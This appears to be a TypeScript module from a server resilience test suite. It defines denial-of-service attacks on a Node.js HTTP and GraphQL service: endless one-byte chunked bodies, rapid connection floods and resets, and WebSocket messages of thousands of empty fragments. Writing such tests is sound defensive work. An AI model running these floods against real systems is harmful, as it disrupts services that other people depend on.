import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import type { Attackers } from './attackers.ts';

/** Duration of an attack, in milliseconds. */
const forMs = { short: 2000, long: 10_000 };

/** Each chunk of one byte is a call of the HTTP parser; one read of a connection brings ten thousand. */
const manyChunks = Buffer.from('1\r\nx\r\n'.repeat(10_900));

const chunkedHead = (request: string): string =>
  `${request} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n`;

/** Writes the same data to a connection for as long as the connection takes it. */
async function writeOn(attackers: Attackers, from: string, head: string): Promise<void> {
  const socket = await attackers.rawConnection(from);
  attackers.countSent(1);
  socket.resume().write(head);
  const write = (): void => {
    if (!socket.destroyed) socket.write(manyChunks, () => setImmediate(write));
  };
  write();
}

/** Node reads the body of a request to its end, also after the request was answered and where no route takes a body. */
export const unreadChunks: Attack = {
  title: 'Endless bodies in chunks of one byte where no body is read: probe, unknown path, other type',
  async send(attackers) {
    const heads = [
      `${chunkedHead('GET /health/live')}\r\n`,
      `${chunkedHead('POST /nothing')}\r\n`,
      `${chunkedHead('POST /graphql')}Content-Type: text/xml\r\n\r\n`,
    ];
    for (const head of heads) {
      const from = attackers.newAddress();
      await Promise.all(Array.from({ length: 10 }, () => writeOn(attackers, from, head)));
    }
    await sleep(forMs[attackers.targets.form]);
  },
};

/** Opens connections one after the other for the duration of an attack, so many a second. */
async function openAgainAndAgain(
  attackers: Attackers,
  perSecond: number,
  open: () => Promise<void>,
): Promise<void> {
  const begun = performance.now();
  const duration = forMs[attackers.targets.form];
  let opened = 0;
  for (let passed = 0; passed < duration; passed = performance.now() - begun) {
    for (; opened < (passed / 1000) * perSecond; opened++) void open().catch(() => undefined);
    await sleep(10);
  }
  attackers.countSent(opened);
}

/** One read of a connection brings request and chunks, before anything can be counted. */
export const chunksOfNewConnections: Attack = {
  title: '90 connections a second of one address, each with a request in chunks of one byte',
  async send(attackers) {
    const from = attackers.newAddress();
    const data = Buffer.concat([Buffer.from(`${chunkedHead('GET /x')}\r\n`), manyChunks]);
    await openAgainAndAgain(attackers, 90, async () => {
      const socket = await attackers.rawConnection(from);
      socket.resume().write(data);
    });
  },
};

/** The system hands over one connection in each turn of the event loop, and work may be deferred for it. */
export const resetConnections: Attack = {
  title: '5,000 connections a second (1,000 in the short form) of one address that are reset at once',
  async send(attackers) {
    const from = attackers.newAddress();
    await openAgainAndAgain(attackers, attackers.isLong ? 5000 : 1000, async () => {
      const socket = await attackers.rawConnection(from);
      socket.resetAndDestroy();
    });
  },
};

/** A message of a text frame and ten thousand continuation frames, all empty, by RFC 6455. */
const emptyFragments = Buffer.concat([
  Buffer.from([0x01, 0x80, 1, 2, 3, 4]),
  ...Array.from({ length: 10_900 }, () => Buffer.from([0x00, 0x80, 1, 2, 3, 4])),
]);

/** Empty frames carry no payload that a limit of bytes would count. */
export const fragments: Attack = {
  title: '50 WebSockets a second of one address, each with a message of 10,900 empty frames',
  async send(attackers) {
    const from = attackers.newAddress();
    await openAgainAndAgain(attackers, 50, async () => {
      const socket = await attackers.rawConnection(from);
      socket.write(
        `GET /graphql HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n` +
          `Sec-WebSocket-Protocol: graphql-transport-ws\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
      );
      socket.once('data', () => socket.write(emptyFragments));
      setTimeout(() => socket.destroy(), forMs.short);
    });
  },
};
